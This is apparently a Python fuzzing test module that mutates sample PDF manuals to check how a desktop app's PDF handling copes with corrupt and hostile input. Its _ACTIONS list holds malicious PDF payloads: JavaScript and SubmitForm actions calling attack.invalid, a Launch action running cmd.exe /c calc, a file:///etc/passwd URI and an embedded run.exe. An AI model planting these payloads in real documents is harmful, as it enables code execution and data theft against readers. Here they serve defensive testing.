"""Real PDF files, and what becomes of them in the hands of somebody who means harm."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from desktop.core.paths import sample_manuals
from tests.faults.kills import ROOT

if TYPE_CHECKING:
    import random
    from collections.abc import Callable

LARGEST_BYTES = 300_000
NASTY = ROOT.parent / "shared" / "bench" / "nasty"
_PAGES_A_SAMPLE = (0, 4, 8, 16)
_NUMBER = re.compile(rb"(?<![\w.])\d{1,10}(?![\w.])")
_NUMBERS = (b"0", b"-1", b"1", b"65536", b"2147483647", b"4294967296", b"99999999999999", b"1e30")
_ACTIONS = (
    b'/OpenAction<</S/JavaScript/JS(app.launchURL\\("http://attack.invalid"\\))>>',
    b"/OpenAction<</S/Launch/F(/usr/bin/touch)/Win<</F(cmd.exe)/P(/c calc)>>>>",
    b"/AA<</O<</S/URI/URI(file:///etc/passwd)>>>>",
    b"/OpenAction<</S/GoToR/F(//attack.invalid/share/x.pdf)/D[0/Fit]>>",
    b"/Names<</EmbeddedFiles<</Names[(run.exe)<</Type/Filespec/F(run.exe)>>]>>>>",
    b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://attack.invalid)>>>>",
    b"/Encrypt<</Filter/Standard/V 9/R 9/Length 1>>",
    b"/Metadata 1 0 R/Parent 1 0 R/Kids[1 0 R 2 0 R 3 0 R]",
    b"/MediaBox[0 0 1e9 1e9]/Rotate 45/UserUnit 1e6",
    b"/Filter[/FlateDecode/FlateDecode/FlateDecode/LZWDecode/ASCII85Decode]",
    b"/BBox[0 0 0 0]/Matrix[1e9 0 0 1e9 0 0]/Resources 1 0 R",
)


def seeds() -> list[bytes]:
    """Return small real files: single pages of the samples, plain and packed, and the nasty ones.

    Plain ones have no compressed streams, so that a change reaches what is inside.
    """
    import pymupdf

    found: list[bytes] = []
    for path in sample_manuals():
        with pymupdf.open(path) as whole:
            for page in _PAGES_A_SAMPLE:
                with pymupdf.open() as single:
                    single.insert_pdf(whole, from_page=page, to_page=page)
                    found.append(single.tobytes(garbage=4, expand=255, deflate=False))
                    found.append(single.tobytes(garbage=4, deflate=True, use_objstms=1))
    found = [data for data in found if len(data) <= LARGEST_BYTES]
    nasty = [path.read_bytes() for path in sorted(NASTY.glob("*.pdf"))]
    return found + [data for data in nasty if len(data) <= LARGEST_BYTES]


def mutated(files: list[bytes], chance: random.Random) -> bytes:
    """Return one of the files after one to four changes."""
    data = bytearray(chance.choice(files))
    for _ in range(chance.randint(1, 4)):
        if data:
            chance.choice(_CHANGES)(data, chance, files)
    return bytes(data)


def _flip(data: bytearray, chance: random.Random, files: list[bytes]) -> None:
    for _ in range(chance.choice((1, 4, 40))):
        data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)


def _noise(data: bytearray, chance: random.Random, _: list[bytes]) -> None:
    at, size = chance.randrange(len(data)), chance.choice((1, 16, 600))
    data[at : at + size] = chance.randbytes(size)


def _cut(data: bytearray, chance: random.Random, _: list[bytes]) -> None:
    at = chance.randrange(len(data))
    del data[at : at + chance.choice((1, 30, 3_000))]


def _end_early(data: bytearray, chance: random.Random, _: list[bytes]) -> None:
    del data[chance.randrange(len(data) // 2, len(data)) :]


def _repeat(data: bytearray, chance: random.Random, _: list[bytes]) -> None:
    at, size = chance.randrange(len(data)), chance.choice((10, 500))
    data[at:at] = data[at : at + size] * chance.choice((1, 20))


def _number(data: bytearray, chance: random.Random, files: list[bytes]) -> None:
    places = [match.span() for match in _NUMBER.finditer(data)][:5_000]
    for _ in range(min(len(places), chance.choice((1, 5)))):
        first, last = chance.choice(places)
        data[first:last] = chance.choice(_NUMBERS)[: last - first].ljust(last - first)


def _reference(data: bytearray, chance: random.Random, _: list[bytes]) -> None:
    """Let an object point at another one: circles, wrong kinds."""
    places = [match.span(1) for match in re.finditer(rb"\b(\d+) 0 R", data)][:5_000]
    if places:
        first, last = chance.choice(places)
        data[first:last] = str(chance.randint(0, 30)).encode()[: last - first].rjust(last - first)


def _action(data: bytearray, chance: random.Random, _: list[bytes]) -> None:
    places = [match.end() for match in re.finditer(rb"<<", data)][:2_000]
    if places:
        at = chance.choice(places)
        data[at:at] = chance.choice(_ACTIONS)


def _splice(data: bytearray, chance: random.Random, files: list[bytes]) -> None:
    other = chance.choice(files)
    at, size = chance.randrange(len(data)), chance.choice((100, 5_000))
    from_ = chance.randrange(len(other))
    data[at : at + size] = other[from_ : from_ + size]


_CHANGES: tuple[Callable[[bytearray, random.Random, list[bytes]], None], ...] = (
    *(_flip, _noise, _cut, _end_early, _repeat),
    *(_number, _number, _reference, _reference, _action, _action, _splice),
)
